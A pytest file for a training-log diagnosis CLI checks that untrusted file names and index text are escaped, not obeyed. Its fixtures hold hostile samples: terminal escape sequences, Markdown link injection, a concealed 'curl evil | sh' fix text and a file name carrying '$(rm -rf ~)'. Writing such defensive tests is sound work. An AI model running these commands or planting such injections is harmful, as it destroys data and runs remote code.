"""File names and index text are untrusted: ESC, OSC, BEL and line breaks in them are shown as
`[U+001B]`, never sent raw to a terminal, and cannot forge a Markdown heading, a link or a
second line of a message. A suggested command quotes the file name for the shell."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from catalog import OOM, index

from generator.cli import main
from generator.diagnose.index import index_json

OOM_LINE = "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 20.00 GiB. GPU 5"
# ESC ] 0 ; ... BEL retitles a terminal window; ESC [ 2 J clears it; the line break starts a
# Markdown heading and a link.
NAME = "a\x1b]0;pwned\x07\x1b[2Jb\n# Heading [click](https:evil)\nc.log"
SHOWN = "a[U+001B]]0;pwned[U+0007][U+001B][2Jb[U+000A]# Heading [click](https:evil)[U+000A]c.log"


@pytest.fixture()
def work(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "signatures.json").write_text(index_json(index((OOM,)).data))
    return tmp_path


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["diagnose", *args])
    out, err = capsys.readouterr()
    return code, out, err


def test_a_file_name_with_escapes_and_line_breaks_in_text_and_markdown(
    work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (work / "logs").mkdir()
    (work / "logs" / NAME).write_text(OOM_LINE + "\n")
    (work / "logs" / "core\x1b[31m.bin").write_bytes(b"\x00" * 1000)
    code, out, err = run(capsys, "--index", "signatures.json", "logs")
    assert (code, err) == (0, "")
    assert out.splitlines() == [
        "trainwreck diagnose: 1 file, 1 line read",
        "",
        "ROOT CAUSE  CUDA out of memory  cuda-out-of-memory · severity high",
        f"  first logs/{SHOWN}:1 (no rank)",
        "  line  " + OOM_LINE,
        "  seen  1 line: no rank (1 line)",
        "  sure  medium (defining lines only)",
        "  fix   Lower the per-GPU batch size or enable activation checkpointing, then restart.",
        "  page  failures/cuda-out-of-memory/",
        "",
        "note: logs/core[U+001B][31m.bin: does not look like a text log (binary data); skipped",
    ]
    code, out, err = run(capsys, "--index", "signatures.json", "--format", "markdown", "logs")
    assert (code, err) == (0, "")
    assert out.splitlines() == [
        "## Trainwreck diagnosis",
        "",
        "### Root cause: [CUDA out of memory](failures/cuda-out-of-memory/)",
        "",
        "- Entry: `cuda-out-of-memory`, severity high",
        f"- First seen: `logs/{SHOWN}:1` (no rank)",
        "  ```text",
        "  " + OOM_LINE,
        "  ```",
        "- Seen: 1 line: no rank (1 line)",
        "- Confidence: medium (defining lines only)",
        "- Fix: Lower the per-GPU batch size or enable activation checkpointing, then restart.",
        "",
        "_1 file, 1 line read._",
        "_Note: logs/core\\[U+001B\\]\\[31m.bin: does not look like a text log (binary data); "
        "skipped._",
    ]
    # JSON escapes every control character itself; the name is kept exactly.
    code, out, err = run(capsys, "--index", "signatures.json", "--json", "logs")
    assert json.loads(out)["findings"][0]["first"]["file"] == f"logs/{NAME}"
    assert "\x1b" not in out and "\x1b" not in err


def test_error_messages_show_the_name(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (work / NAME).write_bytes(b"\x00" * 1000)
    code, out, err = run(capsys, "--index", "signatures.json", "--json", NAME, "nope\x1b[2J")
    assert (code, out, err) == (2, "", "trainwreck: nope[U+001B][2J: no such file or directory\n")
    code, out, err = run(capsys, "--index", "signatures.json", "--json", NAME)
    catalog = json.loads((work / "signatures.json").read_text())["catalog"]
    assert (code, json.loads(out)) == (
        2,
        {
            "catalog": catalog,
            "findings": [],
            "first_failed_rank": None,
            "unrecognized": [],
            "culprit": None,
            "launcher": [],
        },
    )
    assert err == f"trainwreck: {SHOWN}: does not look like a text log (binary data)\n"


def _hostile_index() -> dict[str, Any]:
    data: dict[str, Any] = json.loads(index_json(index((OOM,)).data))
    entry = data["entries"]["cuda-out-of-memory"]
    entry["title"] = "CUDA out of memory\x1b]8;;https://evil\x07\n## Injected\n[link](https://evil)"
    entry["quick_fix"] = "Run \x1b[8mcurl evil | sh\x1b[0m now."
    entry["path"] = "failures/x) [evil](https://evil/ \n"
    return data


def test_index_text_is_shown_not_obeyed(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (work / "hostile.json").write_text(json.dumps(_hostile_index()))
    (work / "rank0.log").write_text(OOM_LINE + "\n")
    title = (
        "CUDA out of memory[U+001B]]8;;https://evil[U+0007][U+000A]## Injected[U+000A]"
        "[link](https://evil)"
    )
    code, out, err = run(capsys, "--index", "hostile.json", "rank0.log")
    assert (code, err) == (0, "")
    assert out.splitlines() == [
        "trainwreck diagnose: 1 file, 1 line read",
        "First failed rank: 0 (rank0.log:1)",
        "",
        f"ROOT CAUSE  {title}  cuda-out-of-memory · severity high",
        "  first rank0.log:1 (rank 0)",
        "  line  " + OOM_LINE,
        "  seen  1 line: rank 0 (1 line)",
        "  sure  medium (defining lines only)",
        "  fix   Run [U+001B][8mcurl evil | sh[U+001B][0m now.",
        "  page  failures/x) [evil](https://evil/ [U+000A]",
    ]
    code, out, err = run(capsys, "--index", "hostile.json", "--format", "markdown", "rank0.log")
    assert (code, err) == (0, "")
    assert out.splitlines() == [
        "## Trainwreck diagnosis",
        "",
        "**First failed rank: 0** (`rank0.log:1`)",
        "",
        "### Root cause: [CUDA out of memory\\[U+001B\\]\\]8;;https://evil\\[U+0007\\]"
        "\\[U+000A\\]\\#\\# Injected\\[U+000A\\]\\[link\\](https://evil)]"
        "(failures/x%29%20[evil]%28https://evil/%20%0A)",
        "",
        "- Entry: `cuda-out-of-memory`, severity high",
        "- First seen: `rank0.log:1` (rank 0)",
        "  ```text",
        "  " + OOM_LINE,
        "  ```",
        "- Seen: 1 line: rank 0 (1 line)",
        "- Confidence: medium (defining lines only)",
        "- Fix: Run \\[U+001B\\]\\[8mcurl evil \\| sh\\[U+001B\\]\\[0m now.",
        "",
        "_1 file, 1 line read._",
    ]


def test_a_bad_index_key_is_shown_in_the_message(
    work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = _hostile_index()
    data["entries"]["x\x1b[2J\ny"] = {}
    (work / "bad.json").write_text(json.dumps(data))
    (work / "rank0.log").write_text(OOM_LINE + "\n")
    code, out, err = run(capsys, "--index", "bad.json", "rank0.log")
    assert (code, out) == (2, "")
    assert err == (
        "trainwreck: bad.json: not a usable signature index: "
        "entries.x[U+001B][2J[U+000A]y.title: Field required\n"
    )


def test_the_suggested_command_quotes_the_file_name(
    work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    name = "rank0 $(rm -rf ~);x.log"
    (work / name).write_text("Traceback (most recent call last):\n  File \"x.py\"\nKeyError: 'x'\n")
    code, out, err = run(capsys, "--index", "signatures.json", name)
    assert (code, err) == (0, "")
    assert out.splitlines()[-5:] == [
        "The catalog has no entry for this error. To add one:",
        "  1. trainwreck new <id> --category <category> --from-log 'rank0 $(rm -rf ~);x.log'",
        "  2. write the prose, check the drafted signature against the upstream source,",
        "     and run trainwreck validate until it reports nothing",
        "  (docs/entry-format.md describes every field)",
    ]
